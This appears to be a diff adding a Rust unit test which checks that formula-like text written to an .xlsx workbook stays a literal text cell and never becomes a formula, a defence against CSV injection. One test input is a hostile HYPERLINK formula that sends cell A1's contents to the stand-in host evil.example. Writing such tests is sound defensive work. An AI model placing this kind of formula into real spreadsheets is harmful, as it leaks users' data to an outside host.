@@ -394,3 +394,36 @@ fn append_is_refused_pointing_to_the_sinks_that_accumulate() {
         )
         .expect("overwrite is the default and accepted");
 }
+
+/// CSV injection does not reach a workbook: text that looks like a formula
+/// is written as a text cell, exactly, and the sheet holds no formula.
+#[test]
+fn formula_looking_text_stays_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("f.xlsx");
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Voir\")",
+        "@SUM(A1:A9)",
+        "+33 1 23 45 67 89",
+        "-2+3",
+    ];
+    let mut records = Generator::new().records(0, hostile.len());
+    for (r, text) in records.iter_mut().zip(hostile) {
+        r.title = Some(text.to_string());
+    }
+    write(&path, json!({"columns": ["title"]}), &records);
+    let sheets = read_sheets(&path);
+    let rows = &sheets[0].1;
+    for (row, text) in rows[1..].iter().zip(hostile) {
+        assert_eq!(
+            row[0],
+            Data::String(text.to_string()),
+            "a text cell, as it was"
+        );
+    }
+    let sheet = part(&path, "xl/worksheets/sheet1.xml");
+    assert!(
+        !sheet.contains("<f>") && !sheet.contains("<f "),
+        "no formula in the sheet"
+    );
+}
